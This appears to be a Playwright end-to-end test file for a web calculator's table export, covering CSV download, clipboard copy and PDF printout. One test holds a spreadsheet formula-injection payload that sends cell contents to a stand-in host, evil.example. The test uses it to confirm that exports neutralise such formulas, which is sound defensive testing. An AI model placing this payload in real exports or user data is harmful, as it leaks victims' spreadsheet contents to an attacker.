// A table output's "Download CSV" and "Copy" (values, not the display text: numbers rounded
// as shown where a column rounds, raw elsewhere) and the printout of /calc/{id}: a calculator
// with a table, made through the API.
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { expect, test, type APIRequestContext } from '@playwright/test';
import {
  baseUrl,
  calcDoc,
  expectAccessible,
  newAccount,
  saveCalculator,
  screenshot,
  signUpViaApi,
  switchTheme,
} from './helpers';

const NAME = 'Loan schedule';
const RATE = '2.375';

// Row 1 carries the awkward values: a sum that is not 0.3, text with a quote, a comma and
// Cyrillic. Amounts show as dollars with 2 decimals: the export has them rounded as shown
// (0.1 + 0.2 → 0.30, 3 × 2.375 = 7.125 → 7.13 half away from zero) but in plain digits,
// without the dollar sign.
const scheduleDoc = () =>
  calcDoc({
    name: NAME,
    description: 'Pays a loan back month by month.',
    script:
      "'use strict';\n\nconst schedule = [];\nfor (let i = 1; i <= inputs.rows; i++) {\n" +
      '  schedule.push({\n    Month: i,\n    Amount: i === 1 ? 0.1 + 0.2 : i * inputs.rate,\n' +
      '    Day: new Date(Date.UTC(2026, 0, i)),\n' +
      "    Note: i === 1 ? 'say \"hi\", Зина' : 'n' + i,\n    Paid: i % 2 === 0,\n  });\n}\n" +
      'return { schedule };\n',
    inputs: [
      { id: 1, name: 'rows', type: 'number' },
      { id: 2, name: 'rate', type: 'number' },
    ],
    outputs: [
      {
        id: 1,
        name: 'schedule',
        type: 'table',
        metaOutputs: [
          { id: 1, name: 'Month', type: 'value' },
          { id: 2, name: 'Amount', type: 'value', decimalPlaces: 2, currencySign: '$' },
          { id: 3, name: 'Day', type: 'value' },
          { id: 4, name: 'Note', type: 'value' },
          { id: 5, name: 'Paid', type: 'value' },
          { id: 6, name: 'Blank', type: 'value' },
        ],
      },
    ],
    defaults: { '1': 3, '2': Number(RATE) },
  });

const ROWS = [
  'Month,Amount,Day,Note,Paid,Blank',
  '1,0.30,2026-01-01,"say ""hi"", Зина",false,',
  '2,4.75,2026-01-02,n2,true,',
  '3,7.13,2026-01-03,n3,false,',
];

// A visitor's text that a spreadsheet would run as a formula (issue 25), beside a negative
// number that must stay a number.
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
const formulaDoc = () =>
  calcDoc({
    name: 'Notes',
    script:
      "'use strict';\n\nreturn { rows: [{ Note: inputs.note, Delta: -5 }, { Note: 'plain', Delta: 2 }] };\n",
    inputs: [{ id: 1, name: 'note', type: 'string' }],
    outputs: [
      {
        id: 1,
        name: 'rows',
        type: 'table',
        metaOutputs: [
          { id: 1, name: 'Note', type: 'value' },
          { id: 2, name: 'Delta', type: 'value' },
        ],
      },
    ],
    defaults: { '1': HYPERLINK },
  });

let author: APIRequestContext;
let calcId: string;
let formulaId: string;

test.beforeAll(async ({ playwright }) => {
  author = await playwright.request.newContext({ baseURL: baseUrl() });
  await signUpViaApi(author, newAccount('exporter'));
  calcId = await saveCalculator(author, scheduleDoc());
  formulaId = await saveCalculator(author, formulaDoc());
});

test.afterAll(async () => {
  await author.dispose();
});

test('Download CSV gives the values rounded as shown, in plain digits, as UTF-8 with a BOM and CRLF', async ({
  page,
}) => {
  await page.goto(`/calc/${calcId}`);
  const table = page.locator('[data-output="schedule"]');
  // The table shows formatted values; the file must not.
  await expect(table.getByRole('cell', { name: '$4.75' })).toBeVisible();
  await expect(table.getByRole('cell', { name: 'Jan 2, 2026' })).toBeVisible();

  const [download] = await Promise.all([
    page.waitForEvent('download'),
    table.getByRole('button', { name: 'Download CSV' }).click(),
  ]);
  expect(download.suggestedFilename()).toBe('Loan-schedule-schedule.csv');
  const bytes = readFileSync(await download.path());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(bytes.subarray(3).toString('utf8')).toBe(ROWS.map((row) => `${row}\r\n`).join(''));

  for (const theme of ['light', 'dark'] as const) {
    await switchTheme(page, theme);
    await expectAccessible(page, `published calculator with a table (${theme})`);
    await screenshot(page, 'table-export');
  }
});

test('Copy puts tab-separated values, rounded as shown, on the clipboard and says so', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseUrl() });
  await page.goto(`/calc/${calcId}`);
  const table = page.locator('[data-output="schedule"]');
  // The keyboard reaches the button: focus it and press Enter.
  const copy = table.getByRole('button', { name: 'Copy' });
  await copy.focus();
  await page.keyboard.press('Enter');
  await expect(table.getByText('Copied', { exact: true })).toBeVisible();
  await expect(table.getByText('Copied', { exact: true })).toHaveAttribute('aria-live', 'polite');
  const text = await page.evaluate(() => navigator.clipboard.readText());
  expect(text).toBe(
    [
      'Month\tAmount\tDay\tNote\tPaid\tBlank',
      '1\t0.30\t2026-01-01\tsay "hi", Зина\tfalse\t',
      '2\t4.75\t2026-01-02\tn2\ttrue\t',
      '3\t7.13\t2026-01-03\tn3\tfalse\t',
    ].join('\n'),
  );
});

test('a text cell that starts like a formula gets a leading quote in the CSV and the copy', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseUrl() });
  await page.goto(`/calc/${formulaId}`);
  const table = page.locator('[data-output="rows"]');
  // The page shows the visitor's text as it is; only the export neutralises it.
  await expect(table.getByRole('cell', { name: HYPERLINK })).toBeVisible();

  const [download] = await Promise.all([
    page.waitForEvent('download'),
    table.getByRole('button', { name: 'Download CSV' }).click(),
  ]);
  const csv = readFileSync(await download.path(), 'utf8');
  const quoted = `"'${HYPERLINK.replace(/"/g, '""')}"`;
  expect(csv).toBe(`\uFEFFNote,Delta\r\n${quoted},-5\r\nplain,2\r\n`);

  await table.getByRole('button', { name: 'Copy' }).click();
  await expect(table.getByText('Copied', { exact: true })).toBeVisible();
  const text = await page.evaluate(() => navigator.clipboard.readText());
  expect(text).toBe(`Note\tDelta\n'${HYPERLINK}\t-5\nplain\t2`);
});

test('a refused clipboard is said plainly', async ({ page }) => {
  await page.addInitScript(() => {
    navigator.clipboard.writeText = () => Promise.reject(new DOMException('no', 'NotAllowedError'));
  });
  await page.goto(`/calc/${calcId}`);
  await page.locator('[data-output="schedule"]').getByRole('button', { name: 'Copy' }).click();
  await expect(
    page.getByText('Could not copy: the browser refused access to the clipboard.'),
  ).toBeVisible();
});

test('the embedded calculator has the buttons too', async ({ page }) => {
  await page.goto(`/embed/${calcId}`);
  const table = page.locator('[data-output="schedule"]');
  await expect(table.getByRole('button', { name: 'Download CSV' })).toBeVisible();
  await expect(table.getByRole('button', { name: 'Copy' })).toBeVisible();
});

test('the printout has the name, the inputs and a 200-row table over pages', async ({
  page,
}, testInfo) => {
  await page.goto(`/calc/${calcId}#${encodeURIComponent('{"1":200}')}`);
  await expect(page.getByRole('button', { name: 'Print' })).toBeVisible();
  await expect(page.getByRole('cell', { name: '200', exact: true })).toBeVisible();
  await page.emulateMedia({ media: 'print' });
  await expect(page.getByRole('button', { name: 'Print' })).toBeHidden();
  await expect(page.getByRole('button', { name: 'Download CSV' })).toBeHidden();
  await expect(page.getByText(/^Printed on .+ from http/)).toBeVisible();
  await screenshot(page, 'table-export-print');

  const pdf = testInfo.outputPath('calc.pdf');
  writeFileSync(pdf, await page.pdf({ format: 'A4' }));
  const pages = Number(
    /Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [pdf], { encoding: 'utf8' }))?.[1],
  );
  expect(pages).toBeGreaterThan(2);
  const text = (first: number, last = first) =>
    execFileSync('pdftotext', ['-f', String(first), '-l', String(last), pdf, '-'], {
      encoding: 'utf8',
    });
  const all = text(1, pages);
  expect(all).toContain(NAME);
  expect(all).toContain('Pays a loan back month by month.');
  expect(all).toContain(RATE);
  expect(all).toContain('Printed on');
  expect(all).toContain(`/calc/${calcId}`);
  expect(all).not.toContain('Download CSV');
  // The header row repeats on every page the table runs over.
  for (const header of ['Month', 'Amount', 'Blank']) expect(text(2)).toContain(header);
  expect(text(pages)).toContain('Blank');
});
